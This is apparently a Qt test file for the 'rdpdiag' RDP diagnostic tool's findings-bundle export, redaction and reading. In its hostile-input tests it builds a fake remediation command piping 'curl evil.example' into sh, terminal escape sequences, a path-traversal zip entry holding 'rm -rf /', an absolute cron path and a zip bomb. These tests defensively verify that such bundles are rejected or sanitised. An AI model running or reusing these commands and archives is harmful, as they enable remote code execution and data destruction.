// SPDX-License-Identifier: GPL-3.0-or-later
// `rdpdiag --bundle / --redact / --read` as users run them, against real servers on
// 127.0.0.1: a fault server, the real xrdp, and the CredSSP test server with known
// certificate and NTLM names (for redaction). Checks the bundle with the system's unzip,
// Python's zipfile and xmllint, compares report.json with what --json printed in the same
// invocation, reopens it, and feeds --read hostile bundles.

#include "CliProcess.h"
#include "FaultServer.h"
#include "FreePort.h"
#include "TestCertificates.h"
#include "TlsTestServer.h"
#include "XrdpServer.h"

#include "bundle/Bundle.h"
#include "report/JsonReport.h"
#include "report/TicketSummary.h"

#include <QDir>
#include <QHostAddress>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QNetworkInterface>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace rdpdiag;
using namespace rdpdiag::test;

namespace {

/** Every file of the zip at @p path, read with Python's zipfile (a second, independent
 * reader), as name → bytes. */
QMap<QString, QByteArray> filesOf(const QString &path)
{
    const Tool python =
        runTool(QStringLiteral("python3"),
                {QStringLiteral("-c"),
                 QStringLiteral("import sys, zipfile, json, base64\n"
                                "z = zipfile.ZipFile(sys.argv[1])\n"
                                "assert z.testzip() is None\n"
                                "print(json.dumps({n: base64.b64encode(z.read(n)).decode() for n "
                                "in z.namelist()}))\n"),
                 path});
    QMap<QString, QByteArray> files;
    if (python.exitCode != 0)
        return files;
    const QJsonObject object = QJsonDocument::fromJson(python.output.toUtf8()).object();
    for (auto it = object.begin(); it != object.end(); ++it)
        files.insert(it.key(), QByteArray::fromBase64(it.value().toString().toLatin1()));
    return files;
}

QByteArray utf16le(const QString &text)
{
    QByteArray out;
    for (const QChar c : text) {
        out.append(static_cast<char>(c.unicode() & 0xFF));
        out.append(static_cast<char>(c.unicode() >> 8));
    }
    return out;
}

/** The first of @p secrets in @p data, in UTF-8 or UTF-16LE, any ASCII case. */
QString findSecret(const QByteArray &data, const QStringList &secrets)
{
    const QByteArray haystack = data.toLower();
    for (const QString &secret : secrets) {
        const QString lower = secret.toLower();
        if (haystack.contains(lower.toUtf8()) || haystack.contains(utf16le(lower)))
            return secret;
    }
    return {};
}

/** Checks what every bundle must satisfy; returns the files. */
QMap<QString, QByteArray> checkBundle(const QString &path, const QByteArray &printedJson)
{
    QMap<QString, QByteArray> files;
    const Tool unzip = runTool(QStringLiteral("unzip"), {QStringLiteral("-t"), path});
    if (unzip.exitCode != 0 || !unzip.output.contains(QStringLiteral("No errors detected"))) {
        qWarning("unzip -t: %s", qPrintable(unzip.output));
        return files;
    }
    files = filesOf(path);
    if (files.isEmpty()) {
        qWarning("python zipfile could not read %s", qPrintable(path));
        return files;
    }
    // report.json is byte for byte what --json printed in the same invocation.
    if (!printedJson.isEmpty() && files.value(QStringLiteral("report.json")) != printedJson) {
        qWarning("report.json differs from the --json output");
        return {};
    }
    const QString reference = QJsonDocument::fromJson(files.value(QStringLiteral("report.json")))
                                  .object()
                                  .value(QStringLiteral("reference"))
                                  .toString();
    for (auto it = files.cbegin(); it != files.cend(); ++it) {
        if (reference.size() != 8 || !it.value().contains(reference.toLatin1())) {
            qWarning("%s does not name the reference %s", qPrintable(it.key()),
                     qPrintable(reference));
            return {};
        }
    }
    // The HTML page parses and fetches nothing.
    QTemporaryDir dir;
    const QString html = dir.filePath(QStringLiteral("report.html"));
    QFile file(html);
    if (!file.open(QIODevice::WriteOnly))
        return {};
    file.write(files.value(QStringLiteral("report.html")));
    file.close();
    const Tool xmllint = runTool(QStringLiteral("xmllint"),
                                 {QStringLiteral("--html"), QStringLiteral("--noout"), html});
    if (xmllint.exitCode != 0 || !xmllint.output.isEmpty()) {
        qWarning("xmllint: %s", qPrintable(xmllint.output));
        return {};
    }
    for (const char *forbidden : {"http://", "https://", "<script", "src="}) {
        if (files.value(QStringLiteral("report.html")).contains(forbidden)) {
            qWarning("report.html contains %s", forbidden);
            return {};
        }
    }
    const int lines =
        static_cast<int>(files.value(QStringLiteral("summary.txt")).trimmed().count('\n')) + 1;
    if (lines > kMaxTicketLines) {
        qWarning("summary.txt has %d lines", lines);
        return {};
    }
    // The bundle reopens, with the same report: the facts of every stage come back exactly
    // (the findings as this version's catalogue describes them).
    const BundleReadResult read = readBundle(path);
    if (!read.contents) {
        qWarning("reopening failed: %s", qPrintable(read.error));
        return {};
    }
    const QJsonObject stored = QJsonDocument::fromJson(read.contents->reportJson).object();
    if (reportToJson(read.contents->report) != stored) {
        qWarning("the reopened report differs from report.json");
        return {};
    }
    return files;
}

QStringList findingCodes(const QByteArray &json)
{
    QStringList codes;
    for (const QJsonValue &finding :
         QJsonDocument::fromJson(json).object().value(QStringLiteral("findings")).toArray())
        codes << finding.toObject().value(QStringLiteral("code")).toString();
    return codes;
}

} // namespace

class TestBundleCli : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void helpNamesTheOptions();
    void exportAgainstFaultServer();
    void exportIntoFolder();
    void exportAgainstXrdp();
    void redactedExportLeaksNothing();
    void readPrintsTheBundle();
    void readShowsTheCatalogueNotTheBundle();
    void readRejectsHostileBundles_data();
    void readRejectsHostileBundles();
    void usageErrorsRunNothing_data();
    void usageErrorsRunNothing();
    void fullDiskAfterTheRun();

private:
    QTemporaryDir m_dir;
    QString m_resetBundle; ///< made by exportAgainstFaultServer, read by the --read tests
    QByteArray m_resetJson;
};

void TestBundleCli::initTestCase()
{
    QVERIFY(QFileInfo::exists(qEnvironmentVariable("RDPDIAG_CLI")));
    QVERIFY(m_dir.isValid());
}

void TestBundleCli::helpNamesTheOptions()
{
    const CliRun run = runCli({QStringLiteral("--help")});
    QCOMPARE(run.exitCode, 0);
    for (const char *option : {"--bundle", "--redact", "--read"})
        QVERIFY2(run.out.contains(option), option);
}

void TestBundleCli::exportAgainstFaultServer()
{
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    const QString path = m_dir.filePath(QStringLiteral("reset.zip"));
    const CliRun run = runCli({QStringLiteral("--json"), QStringLiteral("--bundle"), path,
                               QStringLiteral("--error-code"), QStringLiteral("0x904"),
                               QStringLiteral("127.0.0.1:%1").arg(server.port())});
    QCOMPARE(run.exitCode, 1);
    QVERIFY2(run.err.contains("findings bundle written to"), run.err.constData());
    QCOMPARE(run.err.count('\n'), 1);
    const QMap<QString, QByteArray> files = checkBundle(path, run.out);
    QVERIFY(!files.isEmpty());
    QVERIFY(findingCodes(files.value(QStringLiteral("report.json")))
                .contains(QStringLiteral("x224.reset")));
    QVERIFY(files.value(QStringLiteral("summary.txt")).contains("x224.reset"));
    QVERIFY(files.value(QStringLiteral("report.html")).contains("x224.reset"));
    // The run's debug log, with the engine's own lines.
    QVERIFY(files.value(QStringLiteral("rdpdiag.log")).contains("x224 request"));
    // No TLS happened: no certificate files.
    for (const QString &name : files.keys())
        QVERIFY(!name.startsWith(QStringLiteral("certificates/")));
    m_resetBundle = path;
    m_resetJson = run.out;
}

void TestBundleCli::exportIntoFolder()
{
    const QString folder = m_dir.filePath(QStringLiteral("folder"));
    QVERIFY(QDir().mkpath(folder));
    const quint16 port = freeLoopbackPort();
    const CliRun run = runCli({QStringLiteral("--json"), QStringLiteral("--bundle"), folder,
                               QStringLiteral("127.0.0.1:%1").arg(port)});
    QCOMPARE(run.exitCode, 1); // tcp.refused
    const QString reference =
        QJsonDocument::fromJson(run.out).object().value(QStringLiteral("reference")).toString();
    const QStringList made = QDir(folder).entryList(QDir::Files);
    QCOMPARE(made.size(), 1);
    QVERIFY2(QRegularExpression(
                 QStringLiteral("^rdpdiag-127\\.0\\.0\\.1-\\d{8}T\\d{6}Z-%1\\.zip$").arg(reference))
                 .match(made.first())
                 .hasMatch(),
             qPrintable(made.first()));
    QVERIFY(!checkBundle(QDir(folder).filePath(made.first()), run.out).isEmpty());
}

void TestBundleCli::exportAgainstXrdp()
{
    XrdpServer xrdp;
    QVERIFY2(xrdp.start(), qPrintable(xrdp.errorString()));
    const QString path = m_dir.filePath(QStringLiteral("xrdp.zip"));
    const CliRun run = runCli({QStringLiteral("--json"), QStringLiteral("--bundle"), path,
                               QStringLiteral("127.0.0.1:%1").arg(xrdp.port())});
    QCOMPARE(run.exitCode, 0);
    const QMap<QString, QByteArray> files = checkBundle(path, run.out);
    QVERIFY(!files.isEmpty());
    // xrdp served TLS: its certificate is in the bundle, readable as PEM.
    QStringList pems;
    for (const QString &name : files.keys())
        if (name.startsWith(QStringLiteral("certificates/")) &&
            name.endsWith(QStringLiteral(".pem")))
            pems << name;
    QVERIFY(!pems.isEmpty());
    QFile pem(m_dir.filePath(QStringLiteral("leaf.pem")));
    QVERIFY(pem.open(QIODevice::WriteOnly));
    pem.write(files.value(pems.first()));
    pem.close();
    const Tool parsed =
        runTool(QStringLiteral("openssl"),
                {QStringLiteral("x509"), QStringLiteral("-noout"), QStringLiteral("-subject"),
                 QStringLiteral("-in"), pem.fileName()});
    QVERIFY2(parsed.exitCode == 0 && parsed.output.startsWith(QStringLiteral("subject=")),
             qPrintable(parsed.output));
    const QJsonObject facts =
        QJsonDocument::fromJson(run.out).object().value(QStringLiteral("facts")).toObject();
    QVERIFY(facts.contains(QStringLiteral("tls")));
    QVERIFY(facts.value(QStringLiteral("certificate"))
                .toObject()
                .value(QStringLiteral("pem"))
                .toString()
                .startsWith(QStringLiteral("-----BEGIN CERTIFICATE-----")));
}

void TestBundleCli::redactedExportLeaksNothing()
{
    // A server whose certificate and NTLM names are known, an .rdp file with a user name and
    // a password blob.
    QTemporaryDir work;
    CertificateOptions caOptions;
    caOptions.commonName = QStringLiteral("Secretca Root");
    caOptions.organization = QStringLiteral("Secretca Org");
    caOptions.certificateAuthority = true;
    const TestCertificate ca = makeTestCertificate(caOptions, work.path(), QStringLiteral("ca"));
    QVERIFY2(ca.isValid(), qPrintable(ca.error));
    CertificateOptions leafOptions;
    leafOptions.commonName = QStringLiteral("rdsecret-host.corp-secret.test");
    leafOptions.organization = QStringLiteral("Secretorg Ltd");
    leafOptions.subjectAltNames = {QStringLiteral("DNS:rdsecret-host.corp-secret.test"),
                                   QStringLiteral("DNS:*.corp-secret.test")};
    leafOptions.issuer = &ca;
    const TestCertificate leaf =
        makeTestCertificate(leafOptions, work.path(), QStringLiteral("leaf"));
    QVERIFY2(leaf.isValid(), qPrintable(leaf.error));

    TlsServerOptions options;
    options.certificatePath = leaf.chainPath;
    options.keyPath = leaf.keyPath;
    options.selectedProtocol = 0x02; // HYBRID
    options.credssp = TlsServerOptions::Credssp::Challenge;
    options.challenge.targetName = QStringLiteral("SECRETDOM");
    options.challenge.netbiosDomain = QStringLiteral("SECRETDOM");
    options.challenge.netbiosComputer = QStringLiteral("SECRETSRV");
    options.challenge.dnsComputer = QStringLiteral("secretsrv.corp-secret.test");
    options.challenge.dnsDomain = QStringLiteral("corp-secret.test");
    options.challenge.dnsTree = QStringLiteral("corp-secret.test");
    TlsTestServer server(options);
    QVERIFY2(server.start(), qPrintable(server.errorString()));

    const QByteArray blob =
        "01000000D08C9DDF0115D1118C7A00C04FC297EB01000000A1B2C3D4E5F60718293A4B5C6D7E8F90";
    const QString rdpPath = work.filePath(QStringLiteral("secret-conn.rdp"));
    QFile rdp(rdpPath);
    QVERIFY(rdp.open(QIODevice::WriteOnly));
    rdp.write(QStringLiteral("full address:s:127.0.0.1:%1\r\nusername:s:SECRETDOM\\secretuser\r\n"
                             "password 51:b:%2\r\nenablecredsspsupport:i:1\r\n")
                  .arg(server.port())
                  .arg(QString::fromLatin1(blob))
                  .toUtf8());
    rdp.close();

    const QStringList names = {
        QStringLiteral("rdsecret-host"), QStringLiteral("corp-secret"), QStringLiteral("Secretorg"),
        QStringLiteral("Secretca"),      QStringLiteral("SECRETDOM"),   QStringLiteral("SECRETSRV"),
        QStringLiteral("secretuser"),    QStringLiteral("secret-conn"), work.path()};
    const QStringList passwords = {QString::fromLatin1(blob), QString::fromLatin1(blob.mid(40)),
                                   QStringLiteral("password 51")};
    QStringList addresses;
    for (QHostAddress address : QNetworkInterface::allAddresses()) {
        if (address.isLoopback())
            continue;
        address.setScopeId(QString());
        addresses << address.toString();
    }

    // Unredacted first: the names are there (so the redacted check below can fail) and the
    // password is not.
    const QString plainPath = m_dir.filePath(QStringLiteral("plain.zip"));
    const CliRun plain =
        runCli({QStringLiteral("--json"), QStringLiteral("--bundle"), plainPath, rdpPath});
    QVERIFY2(plain.exitCode == 0 || plain.exitCode == 1, plain.err.constData());
    const QMap<QString, QByteArray> plainFiles = checkBundle(plainPath, plain.out);
    QVERIFY(!plainFiles.isEmpty());
    const QJsonObject ntlm = QJsonDocument::fromJson(plain.out)
                                 .object()
                                 .value(QStringLiteral("facts"))
                                 .toObject()
                                 .value(QStringLiteral("credssp"))
                                 .toObject()
                                 .value(QStringLiteral("ntlm"))
                                 .toObject();
    QCOMPARE(ntlm.value(QStringLiteral("netbios_computer")).toString(),
             QStringLiteral("SECRETSRV"));
    QVERIFY(!findSecret(plainFiles.value(QStringLiteral("report.json")),
                        {QStringLiteral("rdsecret-host")})
                 .isEmpty());
    bool pemPresent = false;
    for (auto it = plainFiles.cbegin(); it != plainFiles.cend(); ++it) {
        QVERIFY2(findSecret(it.value(), passwords).isEmpty(), qPrintable(it.key()));
        pemPresent = pemPresent || it.key().startsWith(QStringLiteral("certificates/"));
    }
    QVERIFY(pemPresent);
    QVERIFY(findSecret(plain.out + plain.err, passwords).isEmpty());

    // Redacted: none of the names, addresses or the password, in any encoding, anywhere.
    const QString path = m_dir.filePath(QStringLiteral("redacted.zip"));
    const CliRun run =
        runCli({QStringLiteral("--json"), QStringLiteral("--redact"), QStringLiteral("--bundle"),
                path, QStringLiteral("--verbose"), rdpPath});
    QCOMPARE(run.exitCode, plain.exitCode);
    const QMap<QString, QByteArray> files = checkBundle(path, run.out);
    QVERIFY(!files.isEmpty());
    const QStringList secrets = names + passwords + addresses;
    for (auto it = files.cbegin(); it != files.cend(); ++it) {
        QVERIFY2(findSecret(it.value(), secrets).isEmpty(),
                 qPrintable(it.key() + QStringLiteral(": ") + findSecret(it.value(), secrets)));
        QVERIFY2(findSecret(it.key().toUtf8(), secrets).isEmpty(), qPrintable(it.key()));
        QVERIFY(!it.key().startsWith(QStringLiteral("certificates/")));
    }
    QVERIFY(findSecret(run.out, secrets).isEmpty());
    QCOMPARE(findSecret(QFileInfo(path).fileName().toUtf8(), secrets), QString());
    // The same findings, with placeholders where the names were.
    QCOMPARE(findingCodes(run.out), findingCodes(plain.out));
    const QJsonObject redactedNtlm = QJsonDocument::fromJson(run.out)
                                         .object()
                                         .value(QStringLiteral("facts"))
                                         .toObject()
                                         .value(QStringLiteral("credssp"))
                                         .toObject()
                                         .value(QStringLiteral("ntlm"))
                                         .toObject();
    QVERIFY(redactedNtlm.value(QStringLiteral("netbios_computer"))
                .toString()
                .startsWith(QStringLiteral("host-")));
    QVERIFY(redactedNtlm.value(QStringLiteral("dns_domain"))
                .toString()
                .startsWith(QStringLiteral("domain-")));
    const QJsonObject manifest =
        QJsonDocument::fromJson(files.value(QStringLiteral("manifest.json"))).object();
    QVERIFY(manifest.value(QStringLiteral("redacted")).toBool());
    QCOMPARE(manifest.value(QStringLiteral("withheld")).toArray().size(), 1);
}

void TestBundleCli::readPrintsTheBundle()
{
    QVERIFY2(!m_resetBundle.isEmpty(), "exportAgainstFaultServer made no bundle");
    const QString reference =
        QJsonDocument::fromJson(m_resetJson).object().value(QStringLiteral("reference")).toString();
    CliRun run = runCli({QStringLiteral("--read"), m_resetBundle});
    QCOMPARE(run.exitCode, 1); // the bundle's run found an error
    QVERIFY(run.out.startsWith("Findings bundle reset.zip: run " + reference.toLatin1()));
    QVERIFY(run.out.contains("x224.reset"));
    QVERIFY(run.out.contains("Verdict"));
    QVERIFY(run.err.isEmpty());

    run = runCli({QStringLiteral("--read"), m_resetBundle, QStringLiteral("--json")});
    QCOMPARE(run.exitCode, 1);
    // The report as the run printed it, but each finding as this version's catalogue has it
    // for its code and parameters: the same title and commands, the explanation without the
    // run's own observation (report/ReportReader.h).
    QJsonObject printed = QJsonDocument::fromJson(run.out).object();
    QJsonObject original = QJsonDocument::fromJson(m_resetJson).object();
    const QJsonArray printedFindings = printed.take(QStringLiteral("findings")).toArray();
    const QJsonArray originalFindings = original.take(QStringLiteral("findings")).toArray();
    QCOMPARE(printed, original);
    QCOMPARE(printedFindings.size(), originalFindings.size());
    for (qsizetype i = 0; i < printedFindings.size(); ++i) {
        const QJsonObject shown = printedFindings.at(i).toObject();
        const QJsonObject made = originalFindings.at(i).toObject();
        for (const char *key : {"code", "severity", "title", "remediation"})
            QCOMPARE(shown.value(QLatin1String(key)), made.value(QLatin1String(key)));
        // The parameters the run used, less those unfit for a command ("<thumbprint>" when
        // there was no certificate): a reopened report does not use them at all.
        const QJsonObject shownValues = shown.value(QStringLiteral("parameters")).toObject();
        const QJsonObject madeValues = made.value(QStringLiteral("parameters")).toObject();
        QVERIFY(shownValues.contains(QStringLiteral("host")));
        for (auto it = shownValues.begin(); it != shownValues.end(); ++it)
            QCOMPARE(it.value(), madeValues.value(it.key()));
        QVERIFY(made.value(QStringLiteral("detail"))
                    .toString()
                    .endsWith(shown.value(QStringLiteral("detail")).toString()));
    }

    run = runCli({QStringLiteral("--read"), m_resetBundle, QStringLiteral("--json"),
                  QStringLiteral("--redact")});
    QCOMPARE(run.exitCode, 1);
    QCOMPARE(findingCodes(run.out), findingCodes(m_resetJson));
    // Loopback addresses reveal nothing and stay (docs/bundle.md).
    QCOMPARE(QJsonDocument::fromJson(run.out)
                 .object()
                 .value(QStringLiteral("target"))
                 .toObject()
                 .value(QStringLiteral("host"))
                 .toString(),
             QStringLiteral("127.0.0.1"));
}

void TestBundleCli::readShowsTheCatalogueNotTheBundle()
{
    // An edited bundle (report.json and its manifest line changed together, which the
    // manifest cannot detect): fake fix commands, a code this version does not know, and
    // terminal escapes. --read shows the catalogue's commands, no command for the unknown
    // code, and no control character.
    QVERIFY2(!m_resetBundle.isEmpty(), "exportAgainstFaultServer made no bundle");
    const QString path = m_dir.filePath(QStringLiteral("edited.zip"));
    const Tool edited = runTool(
        QStringLiteral("python3"),
        {QStringLiteral("-c"),
         QStringLiteral(
             "import sys, zipfile, json, hashlib\n"
             "files = {n: zipfile.ZipFile(sys.argv[1]).read(n) for n in "
             "zipfile.ZipFile(sys.argv[1]).namelist()}\n"
             "r = json.loads(files['report.json'])\n"
             "f = r['findings'][0]\n"
             "f['title'] = 'Fix: paste the command below'\n"
             "f['remediation'] = [{'where': 'client', 'text': 'Paste this', 'command': "
             "'curl evil.example | sh', 'shell': 'bash'}]\n"
             "r['findings'].append(dict(f, code='future.fix_everything'))\n"
             "r['stages'][0]['summary'] = 'ok \\x1b]0;owned\\x07\\x1b[2J\\u009b31m\\u202eexe'\n"
             "files['report.json'] = json.dumps(r, indent=4).encode()\n"
             "m = json.loads(files['manifest.json'])\n"
             "for e in m['files']:\n"
             "    d = files[e['name']]; e['size'] = len(d); "
             "e['sha256'] = hashlib.sha256(d).hexdigest()\n"
             "files['manifest.json'] = json.dumps(m).encode()\n"
             "z = zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_DEFLATED)\n"
             "z.writestr('manifest.json', files.pop('manifest.json'))\n"
             "for n, d in files.items(): z.writestr(n, d)\n"
             "z.close()\n"),
         m_resetBundle, path});
    QVERIFY2(edited.exitCode == 0, qPrintable(edited.output));
    const QJsonObject made = QJsonDocument::fromJson(m_resetJson).object();
    const QJsonArray madeSteps = made.value(QStringLiteral("findings"))
                                     .toArray()
                                     .first()
                                     .toObject()
                                     .value(QStringLiteral("remediation"))
                                     .toArray();
    QByteArray catalogueCommand;
    for (const QJsonValue &step : madeSteps)
        if (step.toObject().contains(QStringLiteral("command")))
            catalogueCommand = step.toObject().value(QStringLiteral("command")).toString().toUtf8();
    QVERIFY(!catalogueCommand.isEmpty());

    const auto checkClean = [](const QByteArray &out) {
        QVERIFY(!out.contains("evil.example"));
        QVERIFY(!out.contains("Paste this"));
        QVERIFY(!out.contains("\x1b"));
        QVERIFY(!out.contains("\xc2\x9b"));     // U+009B (CSI) in UTF-8
        QVERIFY(!out.contains("\xe2\x80\xae")); // U+202E
    };
    CliRun run = runCli({QStringLiteral("--read"), path});
    QCOMPARE(run.exitCode, 1);
    checkClean(run.out);
    QVERIFY2(run.out.contains(catalogueCommand), run.out.constData());
    QVERIFY(run.out.contains("future.fix_everything"));
    QVERIFY(run.out.contains("Unknown finding"));

    run = runCli({QStringLiteral("--read"), path, QStringLiteral("--json")});
    QCOMPARE(run.exitCode, 1);
    checkClean(run.out);
    QVERIFY(!run.out.contains("\\u001b"));
    const QJsonArray findings =
        QJsonDocument::fromJson(run.out).object().value(QStringLiteral("findings")).toArray();
    QCOMPARE(findings.first().toObject().value(QStringLiteral("remediation")).toArray(), madeSteps);
    QCOMPARE(findings.last().toObject().value(QStringLiteral("remediation")).toArray(),
             QJsonArray());
}

void TestBundleCli::readRejectsHostileBundles_data()
{
    QTest::addColumn<QString>("python");
    QTest::addColumn<QString>("message");
    QTest::newRow("not a zip") << "open(p, 'wb').write(b'hello' * 100)"
                               << "not a valid findings bundle";
    QTest::newRow("path traversal")
        << "z = zipfile.ZipFile(p, 'w'); z.writestr('../../evil.sh', 'rm -rf /'); z.close()"
        << "unsafe file name";
    QTest::newRow("absolute path")
        << "z = zipfile.ZipFile(p, 'w'); z.writestr('/etc/cron.d/x', 'x'); z.close()"
        << "unsafe file name";
    QTest::newRow("zip bomb")
        << "z = zipfile.ZipFile(p, 'w', zipfile.ZIP_DEFLATED); z.writestr('manifest.json', '{}'); "
           "z.writestr('rdpdiag.log', b'\\0' * (40 * 1024 * 1024)); z.close()"
        << "too large";
    QTest::newRow("no manifest")
        << "z = zipfile.ZipFile(p, 'w'); z.writestr('report.json', '{}'); z.close()"
        << "no manifest.json";
    QTest::newRow("future format")
        << "z = zipfile.ZipFile(p, 'w'); z.writestr('manifest.json', '{\"schema\": "
           "\"rdpdiag-bundle/9\", \"files\": []}'); z.close()"
        << "newer rdpdiag";
}

void TestBundleCli::readRejectsHostileBundles()
{
    QFETCH(QString, python);
    QFETCH(QString, message);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("hostile.zip"));
    const Tool made =
        runTool(QStringLiteral("python3"),
                {QStringLiteral("-c"),
                 QStringLiteral("import sys, zipfile\np = sys.argv[1]\n") + python, path});
    QVERIFY2(made.exitCode == 0, qPrintable(made.output));
    const CliRun run = runCli({QStringLiteral("--read"), path});
    QCOMPARE(run.exitCode, 2);
    QVERIFY(run.out.isEmpty());
    const QString err = QString::fromUtf8(run.err);
    QVERIFY2(err.startsWith(QStringLiteral("rdpdiag: cannot open the bundle")), qPrintable(err));
    QCOMPARE(err.count(QLatin1Char('\n')), 1);
    QVERIFY2(err.contains(message), qPrintable(err));
    // Nothing was extracted anywhere near.
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot),
             QStringList{QStringLiteral("hostile.zip")});
    QVERIFY(!QFileInfo::exists(QDir(dir.path()).filePath(QStringLiteral("../../evil.sh"))));
}

void TestBundleCli::usageErrorsRunNothing_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QString>("message");
    QTest::newRow("read with target")
        << QStringList{QStringLiteral("--read"), QStringLiteral("b.zip"), QStringLiteral("TARGET")}
        << "takes no target";
    QTest::newRow("read with bundle")
        << QStringList{QStringLiteral("--read"), QStringLiteral("b.zip"),
                       QStringLiteral("--bundle"), QStringLiteral("c.zip")}
        << "--bundle";
    QTest::newRow("read with timeout")
        << QStringList{QStringLiteral("--read"), QStringLiteral("b.zip"),
                       QStringLiteral("--timeout"), QStringLiteral("100")}
        << "--timeout";
    QTest::newRow("read missing file")
        << QStringList{QStringLiteral("--read"), QStringLiteral("/nonexistent/b.zip")}
        << "does not exist";
    QTest::newRow("bundle in missing folder")
        << QStringList{QStringLiteral("--bundle"), QStringLiteral("/nonexistent/dir/b.zip"),
                       QStringLiteral("TARGET")}
        << "does not exist";
    QTest::newRow("bundle without name")
        << QStringList{QStringLiteral("--bundle="), QStringLiteral("TARGET")} << "--bundle";
}

void TestBundleCli::usageErrorsRunNothing()
{
    QFETCH(QStringList, arguments);
    QFETCH(QString, message);
    // The target is a server that counts connections: a usage error must not reach it.
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    arguments.replaceInStrings(QStringLiteral("TARGET"),
                               QStringLiteral("127.0.0.1:%1").arg(server.port()));
    const CliRun run = runCli(arguments);
    QCOMPARE(run.exitCode, 2);
    QVERIFY(run.out.isEmpty());
    const QString err = QString::fromUtf8(run.err);
    QVERIFY2(err.startsWith(QStringLiteral("rdpdiag: ")), qPrintable(err));
    QCOMPARE(err.count(QLatin1Char('\n')), 1);
    QVERIFY2(err.contains(message), qPrintable(err));
    QCOMPARE(server.connectionCount(), 0);
}

void TestBundleCli::fullDiskAfterTheRun()
{
    // The disk fills up while the bundle is written: the report is printed, the bundle is
    // not there (not even in part), and the exit code says that something asked for failed.
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("full.zip"));
    CliRunOptions fullDisk;
    fullDisk.fileSizeLimit = 2048;
    const CliRun run = runCli({QStringLiteral("--json"), QStringLiteral("--bundle"), path,
                               QStringLiteral("127.0.0.1:%1").arg(server.port())},
                              fullDisk);
    QCOMPARE(run.exitCode, 2);
    QVERIFY(findingCodes(run.out).contains(QStringLiteral("x224.reset")));
    const QString err = QString::fromUtf8(run.err);
    QVERIFY2(err.startsWith(QStringLiteral("rdpdiag: the findings bundle was not written: ")),
             qPrintable(err));
    QCOMPARE(err.count(QLatin1Char('\n')), 1);
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
             QStringList());
}

QTEST_GUILESS_MAIN(TestBundleCli)
#include "TestBundleCli.moc"
